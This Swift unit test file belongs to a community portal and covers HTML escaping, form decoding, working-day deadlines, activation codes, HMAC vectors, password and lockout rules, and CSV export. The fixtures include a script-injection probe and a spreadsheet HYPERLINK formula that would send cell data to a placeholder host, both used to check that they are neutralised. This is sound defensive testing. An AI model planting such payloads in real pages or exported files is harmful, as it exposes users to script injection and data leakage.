import Exact
import Foundation
import Store
import Testing

@testable import Portal

/// The portal's small pieces: escaping, form decoding, the objection window, codes, the chart.
struct PortalUnitTests {
    @Test(arguments: [
        ("<script>alert(1)</script>", "&lt;script&gt;alert(1)&lt;/script&gt;"),
        ("\"a\" & 'b'", "&quot;a&quot; &amp; &#39;b&#39;"),
        ("富民社区", "富民社区"),
    ])
    func escaping(_ raw: String, _ escaped: String) {
        #expect(HTML.esc(raw) == escaped)
    }

    @Test func pathSegmentsArePercentEncoded() {
        #expect(HTML.segment("FM-001") == "FM-001")
        #expect(HTML.segment("a/b") == "a%2Fb")
        #expect(HTML.segment("富") == "%E5%AF%8C")
    }

    @Test func formDecoding() {
        let f = Form("a=1&b=%E5%AF%8C+%E6%B0%91&c&d=%zz&a=2")
        #expect(f["a"] == "2")
        #expect(f["b"] == "富 民")
        #expect(f["c"] == "")
        #expect(f["d"] == "%zz")
        #expect(f.text("c") == nil)
    }

    /// Working days after the day of publishing (Monday to Friday).
    @Test(arguments: [
        ("2021-01-05", 5, "2021-01-12"),  // Tuesday → Tuesday
        ("2021-01-08", 1, "2021-01-11"),  // Friday → Monday
        ("2021-01-09", 1, "2021-01-11"),  // Saturday → Monday
        ("2021-01-04", 10, "2021-01-18"),
    ])
    func objectionWindow(_ from: String, _ days: Int, _ until: String) {
        #expect(CivilDate(iso: from)!.addingWorkingDays(days).description == until)
    }

    @Test func activationCodes() {
        let code = ActivationCodes.newCode()
        let parts = code.split(separator: "-")
        #expect(parts.count == 3 && parts.allSatisfy { $0.count == 4 })
        #expect(code.allSatisfy { $0 == "-" || ActivationCodes.alphabet.contains($0) })
        #expect(ActivationCodes.normalize(" abcd-efgh jklm ") == "ABCDEFGHJKLM")
        #expect(Set((0..<200).map { _ in ActivationCodes.newCode() }).count == 200)
    }

    @Test func chinaTodayCrossesMidnightAtUTCPlusEight() {
        // 2021-01-04 16:30 UTC is 00:30 on the 5th in China.
        #expect(PortalClock(fixedAt: Date(timeIntervalSince1970: 1_609_777_800)).chinaToday.description == "2021-01-05")
        #expect(PortalClock(fixedAt: Date(timeIntervalSince1970: 1_609_775_999)).chinaToday.description == "2021-01-04")
    }

    @Test func timestampsShowInChinaTime() {
        #expect(HTML.time("2021-01-05T17:30:00Z") == "2021-01-06 01:30")
        #expect(HTML.time("2021-01-12") == "2021-01-12")
    }

    /// RFC 4231 test cases 1, 2 and 6 (a key longer than the block).
    @Test(arguments: [
        ([UInt8](repeating: 0x0b, count: 20), "Hi There", "b0344c61d8db38535ca8afceaf0bf12b881dc200c9833da726e9376c2e32cff7"),
        (Array("Jefe".utf8), "what do ya want for nothing?", "5bdcc146bf60754e6a042426089575c75a003f089d2739839dec58b964ec3843"),
        ([UInt8](repeating: 0xaa, count: 131), "Test Using Larger Than Block-Size Key - Hash Key First", "60e431591ee0b67f0d8a26aacbf5b77f8e0bc6213728c5140546040f0ee37f54"),
    ])
    func hmacSHA256(key: [UInt8], message: String, tag: String) {
        #expect(HMACSHA256.hex(key: key, message: message) == tag)
    }

    @Test(arguments: [
        ("abcdefgh", nil),
        ("abcdefg", PasswordProblem.tooShort),
        (String(repeating: "x", count: 72), nil),
        (String(repeating: "x", count: 73), PasswordProblem.tooLong),
        (String(repeating: "汉", count: 24), nil),
        (String(repeating: "汉", count: 24) + "x", PasswordProblem.tooLong),
        (String(repeating: "😀", count: 18), nil),
        (String(repeating: "😀", count: 19), PasswordProblem.tooLong),
    ])
    func passwordPolicy(_ password: String, _ problem: PasswordProblem?) {
        #expect(PasswordPolicy.problem(password) == problem)
    }

    /// Lock lengths double per consecutive lock of a key, up to a day.
    @Test(arguments: [(1, 15), (2, 30), (3, 60), (7, 960), (8, 1440), (30, 1440)])
    func lockGrowth(_ lock: Int, _ minutes: Int64) {
        #expect(ThrottlePolicy().lockDuration(lockNumber: lock) == minutes * 60)
    }

    /// A name or community that Excel would run as a formula is written as text.
    @Test(arguments: [
        ("=HYPERLINK(\"http://x.example/?\"&A1,\"点我\")", "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点我\"\")\""),
        ("+86 138", "'+86 138"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "\"'\r=1\""),
        ("张三", "张三"),
        ("a=b", "a=b"),
    ])
    func activationCodesCSVNeutralisesFormulas(_ name: String, _ cell: String) {
        let csv = ActivationCodes.csv([ActivationCodes.Entry(cadreID: "FM-001", name: name, community: name, code: "ABCD-EFGH-JKLM")])
        #expect(csv == "工号,姓名,社区,激活码\nFM-001,\(cell),\(cell),ABCD-EFGH-JKLM\n")
    }

    @Test func constantTimeComparison() {
        #expect(PortalService.constantTimeEqual("abc", "abc"))
        #expect(!PortalService.constantTimeEqual("abc", "abd"))
        #expect(!PortalService.constantTimeEqual("abc", "abcd"))
        #expect(PortalService.randomToken().count == 64)
        #expect(PortalService.randomToken() != PortalService.randomToken())
    }
}
